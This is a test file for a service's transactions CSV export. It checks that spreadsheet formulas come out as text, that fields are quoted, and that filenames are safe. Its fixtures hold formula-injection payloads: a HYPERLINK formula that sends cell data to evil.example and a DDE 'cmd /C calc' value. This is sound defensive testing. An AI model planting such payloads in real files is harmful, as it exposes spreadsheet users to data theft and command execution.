import { randomUUID } from 'node:crypto';
import { eventually, usageRated } from '@tally/testing';
import { AdminHarness } from './admin.harness';

const HEADER =
  'transaction_id,kind,amount,posted_at,funding.allowance,funding.credit,funding.bonus,funding.overage';

/**
 * The CSV export opened in a spreadsheet (ADR 0188): text a spreadsheet would run as a formula
 * is made text, every field that needs it is quoted (RFC 4180), and amounts stay numbers, the
 * negative ones too. Admin projects ledger.transactions as it comes: a record there is treated as
 * hostile as any other consumed topic.
 */
describe('the transactions CSV, opened in a spreadsheet', () => {
  const harness = new AdminHarness({}, []);
  const account = 'acct_csv';
  const postedAt = (minutesAgo: number) => new Date(Date.now() - minutesAgo * 60_000).toISOString();

  beforeAll(() => harness.start());
  afterAll(() => harness.stop());

  function transaction(
    transactionId: string,
    kind: string,
    postings: Array<[string, string]>,
    minutesAgo: number,
  ) {
    const at = postedAt(minutesAgo);
    return {
      schema_version: 1,
      transaction_id: transactionId,
      account_id: account,
      kind,
      source_id: randomUUID(),
      occurred_at: at,
      posted_at: at,
      postings: postings.map(([ledger_account, amount]) => ({ ledger_account, amount })),
      details: {},
    };
  }

  it('makes formulas text, quotes what needs it and keeps amounts numbers', async () => {
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"open")';
    const usageId = randomUUID();
    const records = [
      transaction(
        formula,
        '@SUM(1,2)',
        [
          ['credit', '10.000000'],
          ['payments_clearing', '-10.000000'],
        ],
        4,
      ),
      transaction(
        '+cmd|" /C calc"!A0',
        '-2+3',
        [
          ['credit', '1.000000'],
          ['promotions', '-1.000000'],
        ],
        3,
      ),
      transaction(
        'tx,with "quotes"',
        'grant',
        [
          ['credit', '2.000000'],
          ['promotions', '-2.000000'],
        ],
        2,
      ),
      transaction(
        usageId,
        'usage',
        [
          ['credit', '-0.500000'],
          ['revenue', '0.500000'],
        ],
        1,
      ),
    ];
    await harness.admin.kafka.produceJson(harness.topic('ledger.transactions'), account, records);
    await eventually(async () => {
      const listed = await harness.call<{ items: unknown[] }>(
        'GET',
        `/v1/accounts/${account}/transactions`,
      );
      expect(listed.body?.items).toHaveLength(records.length);
    });

    const csv = await harness.call('GET', `/v1/accounts/${account}/transactions.csv`);
    expect(csv.status).toBe(200);
    // Newest first; the usage was paid from granted credit (ADR 0035).
    expect(csv.text.split('\r\n')).toEqual([
      HEADER,
      `${usageId},usage,-0.500000,${records[3]?.posted_at},0.000000,0.000000,0.500000,0.000000`,
      `"tx,with ""quotes""",grant,2.000000,${records[2]?.posted_at},,,,`,
      `"'+cmd|"" /C calc""!A0","'-2+3",1.000000,${records[1]?.posted_at},,,,`,
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")","'@SUM(1,2)",10.000000,${records[0]?.posted_at},,,,`,
      '',
    ]);
  });

  it("names the file of an account whose id holds quotes and CJK text, which a gateway's subject may", async () => {
    // A rated event makes its account known to admin (ADR 0161), whatever its subject.
    const hostile = 'acct "q" 账户';
    const path = `/v1/accounts/${encodeURIComponent(hostile)}`;
    await harness.admin.kafka.produceJson(harness.topic('usage.rated'), hostile, [
      usageRated(hostile, '0.100000'),
    ]);
    await eventually(async () => expect((await harness.call('GET', path)).status).toBe(200));

    const csv = await harness.call('GET', `${path}/transactions.csv`);
    expect([csv.status, csv.headers.get('content-disposition'), csv.text]).toEqual([
      200,
      `attachment; filename="transactions-acct__q____.csv"; filename*=UTF-8''transactions-acct%20%22q%22%20%E8%B4%A6%E6%88%B7.csv`,
      `${HEADER}\r\n`,
    ]);
  });
});
